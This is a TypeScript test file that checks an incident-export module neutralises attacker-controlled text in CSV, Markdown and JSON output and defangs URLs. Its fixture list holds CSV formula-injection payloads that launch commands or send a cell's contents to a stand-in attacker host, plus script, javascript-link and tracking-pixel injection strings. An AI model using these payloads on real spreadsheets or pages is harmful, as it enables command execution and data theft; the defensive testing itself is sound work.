import { parse } from 'csv-parse/sync';
import { Marked, type Token } from 'marked';
import { describe, expect, it } from 'vitest';
import type { IncidentView } from '../../detect/index.js';
import { csvCell, defang, type ExportOptions, exportIncidents, markdownText } from './index.js';

/** What an attacker may put into a subject, a user name or a URL. */
const hostile = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  \n =1+1',
  '\u200b=1+1',
  '＝1+1',
  '"=1+1',
  'a";=1+1;"',
  '[click](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  '<img src=x onerror=alert(1)>',
  '<https://evil.example>',
  'https://evil.example/login www.evil.example ana@evil.example',
  '[ref]: https://evil.example "t"',
  '`</code><script>alert(1)</script>`',
  'x | y \\| z \\\\| `|` end',
  '\n\n# Heading\n\n- item\n\n```\ncode',
  '&lt;script&gt; &#60;b&#62; &copy;',
  '**bold** _it_ ~~gone~~ $x$ ^y^',
  '\u202egpj.exe',
  '@everyone #1',
  '1. item',
  '1) item',
  '- item',
  '+ item',
  '---',
  '===',
  '[x]: https://evil.example',
  '@: https://evil.example "title"',
  '[.]: https://evil.example',
  'see [.] and [@] and ana@evil.example',
  '[^1] [^1]: note',
  '    code by indent',
];

function view(text: string): IncidentView {
  return {
    incident: {
      ...{ IncidentNumber: 7, IncidentName: 'b1b2', Title: text, Description: text, Severity: 'High', Status: 'New' },
      ...{ Owner: { assignedTo: text }, Labels: [{ labelName: text, labelType: 'User' }], AdditionalData: {} },
      Comments: [{ message: text, author: { name: text }, createdTimeUtc: '2026-03-04T10:00:00Z' }],
      Tasks: [{ taskId: '1', title: text, description: text, status: 'New', createdBy: { name: text } }],
    },
    alerts: [{ SystemAlertId: 'a1', AlertName: text, AlertSeverity: 'High', TimeGenerated: '2026-03-04T10:00:00Z' }],
    entities: [{ name: text, strong: true, entity: { Type: 'url', Url: text }, alertIds: ['a1'] }],
    events: [
      {
        ...{ runId: 'r', ruleName: text },
        columns: [
          { name: 'Subject', type: 'string' },
          { name: 'Clicks', type: 'long' },
        ],
        rows: [[text, -5]],
      },
    ],
    timeline: [{ time: '2026-03-04T10:00:00Z', kind: 'comment', text }],
  };
}

async function exported(text: string, options: ExportOptions): Promise<string> {
  async function* views() {
    yield view(text);
    yield view('second');
  }
  let whole = '';
  for await (const piece of exportIncidents(views(), options)) whole += piece;
  return whole;
}

const parts = ['incidents', 'alerts', 'entities', 'timeline', 'comments', 'tasks', 'evidence'] as const;

describe('CSV', () => {
  // Spreadsheets begin a formula with = + - @; a tab or return before it is dropped by some.
  it.each(hostile)('holds no formula for %j, and loses nothing of it', async (text) => {
    for (const part of parts) {
      const csv = await exported(text, { format: 'csv', part });
      const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
      expect(rows).toHaveLength(2);
      const cells = Object.values(rows[0]!);
      expect(cells.map((cell) => cell.replaceAll("'", ''))).toContain(text.replaceAll("'", ''));
      for (const cell of cells.filter((one) => one !== '-5')) expect(cell).not.toMatch(/^[\s\u200b]*[=+\-@＝]/);
    }
  });

  it('keeps numbers, so that a spreadsheet can add them up', () => {
    expect([csvCell(-5), csvCell(2.5), csvCell(null), csvCell('-5')]).toEqual(['-5', '2.5', '', `"'-5"`]);
  });

  it.each(['a";=1+1;"', 'a\n=1+1', 'a;\t"=1+1'])('holds none for readers that take semicolons: %j', async (text) => {
    const csv = await exported(text, { format: 'csv' });
    // They see the quotes of no cell but the first one of a line.
    for (const cell of csv.split(/[;\r\n\t]/)) expect(cell).not.toMatch(/^[\s"]*[=+\-@]/);
  });
});

describe('Markdown', () => {
  /** Kinds of everything that is not plain text, with HTML and autolinks of GitHub switched on. */
  const kinds = (markdown: string): Set<string> => {
    const found = new Set<string>();
    const marked = new Marked({ gfm: true });
    marked.walkTokens(marked.lexer(markdown), (token: Token) => {
      found.add(token.type);
    });
    return found;
  };
  const own = ['escape', 'heading', 'hr', 'paragraph', 'space', 'table', 'text'];

  it.each(hostile)('shows %j as text: no link, image, HTML or emphasis', async (text) => {
    const markdown = await exported(text, { format: 'markdown' });
    expect([...kinds(markdown)].filter((kind) => !own.includes(kind))).toEqual([]);
    // A cell more or a heading more would be markup too.
    const headings = markdown.split('\n').filter((line) => line.startsWith('#'));
    expect(headings).toHaveLength(14);
    expect(markdown).not.toMatch(/https?:\/\//);
    const html = await new Marked({ gfm: true }).parse(markdown);
    expect(html).not.toMatch(/<(a|img|script|b|em|strong|code|del|li)\b/);
    const tables = html.split('<table>').slice(1);
    for (const table of tables) {
      const [head, ...rows] = table.split('<tr>').slice(1);
      const width = head!.split('<th>').length;
      for (const row of rows) expect(row.split('<td>')).toHaveLength(width);
    }
  });

  it('would see what it looks for', () => {
    expect([...kinds('[x](y) <b> www.evil.example **a** `c`')]).toEqual(
      expect.arrayContaining(['link', 'html', 'strong', 'codespan']),
    );
  });

  it('reads back as the text', async () => {
    const html = await new Marked().parse(`# ${markdownText('a | b_c_d <x> & "y" \\ *z*')}`);
    expect(html.trim()).toBe('<h1>a | b_c_d &lt;x&gt; &amp; &quot;y&quot; \\ *z*</h1>');
  });
});

describe('JSON', () => {
  it('holds every part', async () => {
    const { incidents } = JSON.parse(await exported('=x', { format: 'json' })) as { incidents: object[] };
    expect(incidents).toHaveLength(2);
    expect(incidents[0]).toMatchObject({
      incident: { Title: '=x' },
      alerts: [{ SystemAlertId: 'a1' }],
      entities: [{ name: '=x' }],
      timeline: [{ text: '=x' }],
      comments: [{ message: '=x', author: '=x', time: '2026-03-04T10:00:00Z' }],
      tasks: [{ title: '=x' }],
      evidence: [{ rows: [['=x', -5]] }],
    });
  });
});

it.each([
  ['https://evil.example/a.php?u=b.com', 'hxxps://evil[.]example/a[.]php?u=b[.]com'],
  ['HTTP://192.0.2.1:8080/', 'hxxp://192[.]0[.]2[.]1:8080/'],
  ['ana@mail.example.com', 'ana[@]mail[.]example[.]com'],
  ['ldap://evil.example', 'ldap[:]//evil[.]example'],
  ['javascript:alert(1)', 'javascript[:]alert(1)'],
  ['bücher.example', 'bücher[.]example'],
  ['It ended. Then 3.14 and T1566.002', 'It ended. Then 3.14 and T1566.002'],
])('defangs %s', (text, expected) => expect(defang(text)).toBe(expected));
